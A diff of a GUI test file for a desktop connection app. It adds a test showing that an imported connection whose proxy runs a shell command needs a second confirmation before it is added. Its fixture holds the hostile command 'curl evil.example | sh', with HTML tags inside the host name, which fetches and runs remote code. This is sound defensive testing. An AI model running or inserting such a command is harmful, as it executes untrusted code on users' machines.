@@ -9,10 +9,20 @@ from pathlib import Path
 import pytest
 from PySide6.QtCore import QMimeData, QPoint, QPointF, Qt, QUrl
 from PySide6.QtGui import QDragEnterEvent, QDropEvent
-from PySide6.QtWidgets import QApplication, QCheckBox, QDialog, QFileDialog, QLabel, QLineEdit, QPushButton
+from PySide6.QtWidgets import (
+    QApplication,
+    QCheckBox,
+    QDialog,
+    QFileDialog,
+    QLabel,
+    QLineEdit,
+    QPlainTextEdit,
+    QPushButton,
+)
 
 from desktop.core.errors import ConfigNotWritable
-from desktop.core.model import Connection, Endpoint, Snapshot
+from desktop.core.model import Connection, Endpoint, Proxy, ProxyKind, Snapshot
+from desktop.gui.confirm_dialog import ConfirmDialog
 from desktop.store.exchange import ExchangeFiles
 from tests.gui.conftest import OpenStage
 from tests.gui.window_stage import EVENTS, ORDERS, SCRATCH, Stage
@@ -233,3 +243,25 @@ def test_other_files_may_not(stage: Stage, tmp_path: Path) -> None:
     assert drop(stage, str(tmp_path / "picture.png")) == (False, False)
     assert drop(stage, a_file(tmp_path, ORDERS), str(tmp_path / "more.caponier")) == (False, False)
     assert stage.dialog() is None
+
+
+def test_a_command_of_somebody_else_is_imported_only_by_a_second_yes(stage: Stage, tmp_path: Path) -> None:
+    program = Proxy(ProxyKind.COMMAND, command="curl <b>evil</b>.example | sh")
+    odd = replace(elsewhere(SCRATCH, name="Odd"), route=replace(SCRATCH.route, proxy=program))
+    path = a_file(tmp_path, odd)
+    dialog = open_file(stage, path)
+    assert ticked(dialog) == {"Odd": False}
+    assert f"Runs this program on your computer each time it connects: {program.command}" in sentences(dialog)
+
+    tick(dialog, "Odd")
+    stage.click("goOn")
+    question = stage.dialog()
+    assert isinstance(question, ConfirmDialog)
+    assert stage.part(QPlainTextEdit, "quotation").toPlainText() == program.command
+    stage.click("cancelButton")
+    assert names(stage.library.connections) == ["Orders", "Events"]
+
+    tick(open_file(stage, path), "Odd")
+    stage.click("goOn")
+    stage.click("confirmButton")
+    assert names(stage.library.connections) == ["Orders", "Events", "Odd"]
